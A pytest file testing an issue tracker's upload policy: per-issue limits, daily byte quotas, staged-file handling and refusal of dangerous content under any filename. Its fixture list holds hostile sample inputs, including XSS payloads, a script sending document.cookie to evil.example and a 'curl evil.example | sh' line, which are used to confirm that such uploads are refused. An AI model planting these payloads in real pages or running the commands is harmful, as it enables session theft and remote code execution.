"""The upload policy on the server (services/attachments.py, files.py, uploads.py): files per
issue, bytes per user per day (staged files included), dangerous content refused whatever
its name, names that agree with the content, staged files that never linger."""

from __future__ import annotations

import dataclasses
import datetime as dt
import os
import time

import pytest
from sqlalchemy import func, select, update

import services
from services import InvalidInput, PermissionDenied, RateLimited, UnsupportedType
from services.models import Activity, Attachment
from tests.factories import make_issue, make_user

KB = 1024
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
# (the name an attacker gives, the bytes, what the refusal says the file really is)
DISGUISED = [
    ("page.html", b"<!doctype html><html><script>alert(1)</script></html>\n", "an HTML page"),
    ("cat.png", b"<html><body onload=alert(1)>meow</body></html>", "an HTML page"),
    (
        "notes.txt",
        b"Notes\n\n<script>fetch('//evil.example/'+document.cookie)</script>\n",
        "an HTML page",
    ),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "an SVG image"),
    (
        "chart.png",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
        "an SVG image",
    ),
    (
        "feed.txt",
        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="evil.xsl"?>\n<r/>\n',
        "XML with active content",
    ),
    ("deep.log", b"all fine\n" * 1000 + b"<iframe src=javascript:alert(1)>", "an HTML page"),
    ("run.txt", b"#!/bin/sh\ncurl evil.example | sh\n", "a script"),
    ("invoice.pdf", b"MZ\x90\x00\x03" + bytes(200), "a program"),
    ("photo.jpg", b"\x7fELF\x02\x01\x01" + bytes(200), "a program"),
]


@pytest.fixture
def policy(db, monkeypatch):
    """Narrow the upload policy for this test (the rest keeps its defaults)."""

    def set_policy(**kw: int) -> None:
        current = services.uploads.policy()
        monkeypatch.setattr(services.runtime(), "uploads", dataclasses.replace(current, **kw))

    return set_policy


def stored() -> list:
    return sorted(p for p in services.runtime().upload_dir.rglob("*") if p.is_file())


def attach(actor, issue_id, name, content):
    with services.session() as s:
        return services.attachments.save_attachment(
            s, actor, issue_id, filename=name, content=content
        )


def stage(actor, name, content):
    with services.session() as s:
        return services.attachments.stage_file(s, actor, filename=name, content=content)


def rows() -> int:
    with services.session() as s:
        return s.scalar(select(func.count()).select_from(Attachment)) or 0


@pytest.mark.parametrize(("name", "content", "really"), DISGUISED, ids=[d[0] for d in DISGUISED])
def test_dangerous_content_is_refused_whatever_its_name(db, name, content, really):
    reporter = make_user()
    issue = make_issue(reporter)
    with pytest.raises(UnsupportedType) as refused:
        attach(reporter, issue.id, name, content)
    assert f"it is {really}, whatever its name says" in refused.value.message
    with pytest.raises(UnsupportedType):
        stage(reporter, name, content)
    assert stored() == [] and rows() == 0


@pytest.mark.parametrize(
    ("name", "content", "kept_as", "kind"),
    [
        ("notes.txt", b"plain notes, 3 < 4 and x<y\n", "notes.txt", "text/plain"),
        ("server.LOG", b"boot ok\n", "server.LOG", "text/plain"),
        (
            "config.xml",
            b'<?xml version="1.0"?>\n<config><a>1</a></config>\n',
            "config.xml.txt",
            "text/plain",
        ),
        ("report.pdf", PNG, "report.pdf.png", "image/png"),
        ("crash dump", b"trace line\n", "crash dump.txt", "text/plain"),
        ("notes.html", b"no markup here\n", "notes.html.txt", "text/plain"),
    ],
)
def test_the_stored_name_agrees_with_the_content(db, name, content, kept_as, kind):
    reporter = make_user()
    view = attach(reporter, make_issue(reporter).id, name, content)
    assert (view.filename, view.content_type) == (kept_as, kind)


def test_an_issue_takes_at_most_the_files_the_policy_allows(policy):
    policy(max_files_per_issue=2)
    reporter = make_user()
    issue = make_issue(reporter)
    attach(reporter, issue.id, "a.png", PNG)
    attach(reporter, issue.id, "b.txt", b"second\n")
    with pytest.raises(InvalidInput, match="This issue has 2 files already, the most allowed"):
        attach(reporter, issue.id, "c.txt", b"third\n")
    assert len(stored()) == 2 and rows() == 2
    attach(reporter, make_issue(reporter).id, "c.txt", b"third\n")  # another issue: fine


def test_bytes_per_day_count_attached_and_staged_files(policy):
    policy(max_bytes_per_day=100 * KB)
    reporter, other = make_user(), make_user()
    issue = make_issue(reporter)
    attach(reporter, issue.id, "a.txt", b"a" * 40 * KB)
    waiting = stage(reporter, "b.txt", b"b" * 40 * KB)  # on an unsaved form: it counts too
    with pytest.raises(RateLimited) as refused:
        attach(reporter, issue.id, "c.txt", b"c" * 30 * KB)
    assert refused.value.message == (
        "You have uploaded 40 KB in the last 24 hours and have 40 KB waiting on unsaved "
        "forms; this file (30 KB) would go over your limit of 100 KB per day. "
        "Try again in 24 hours."
    )
    assert 86_000 < refused.value.retry_after <= 86_400  # when the first file's day is over
    assert rows() == 1
    attach(other, make_issue(other).id, "c.txt", b"c" * 30 * KB)  # everyone has their own
    services.attachments.discard_staged([waiting])  # removed from the form: room again
    attach(reporter, issue.id, "c.txt", b"c" * 30 * KB)


def test_only_the_last_24_hours_count(policy):
    policy(max_bytes_per_day=100 * KB)
    reporter = make_user()
    issue = make_issue(reporter)
    attach(reporter, issue.id, "a.txt", b"a" * 80 * KB)
    with pytest.raises(RateLimited):
        attach(reporter, issue.id, "b.txt", b"b" * 30 * KB)
    yesterday = services.models.utcnow() - dt.timedelta(hours=25)
    with services.session() as s:
        s.execute(update(Attachment).values(created_at=yesterday))
        s.execute(update(Activity).values(created_at=yesterday))
        s.commit()
    attach(reporter, issue.id, "b.txt", b"b" * 30 * KB)


def test_a_staged_file_waits_on_disk_and_is_attached_by_moving_it(db):
    reporter = make_user()
    staged = stage(reporter, "shot.png", PNG)
    assert (staged.filename, staged.size, staged.content_type) == (
        "shot.png",
        len(PNG),
        "image/png",
    )
    [waiting] = stored()
    assert waiting.read_bytes() == PNG and rows() == 0
    issue = make_issue(reporter)
    view = attach(reporter, issue.id, staged.filename, staged)
    [kept] = stored()
    assert kept.read_bytes() == PNG and kept != waiting and not waiting.exists()
    assert view.filename == "shot.png" and rows() == 1


def test_nobody_attaches_a_file_someone_else_staged(db):
    reporter, other = make_user(), make_user("MAINTAINER")
    staged = stage(reporter, "shot.png", PNG)
    issue = make_issue(other)
    with pytest.raises(PermissionDenied):
        attach(other, issue.id, "shot.png", staged)
    assert rows() == 0


def test_a_staged_file_discarded_in_between_is_a_clear_error(db):
    reporter = make_user()
    staged = stage(reporter, "shot.png", PNG)
    services.attachments.discard_staged([staged])
    assert stored() == []
    with pytest.raises(InvalidInput, match="waited too long"):
        attach(reporter, make_issue(reporter).id, "shot.png", staged)
    assert rows() == 0


def test_leftover_staged_files_are_swept_after_hours(db):
    reporter = make_user()
    old, young = stage(reporter, "old.txt", b"old\n"), stage(reporter, "new.txt", b"new\n")
    hours_ago = time.time() - 7 * 3600
    os.utime(old.staged.path, (hours_ago, hours_ago))
    attach(reporter, make_issue(reporter).id, "kept.png", PNG)
    assert services.attachments.sweep_staged() == 1
    assert not old.staged.path.exists() and young.staged.path.exists()
    assert len(stored()) == 2  # the young staged file and the attachment
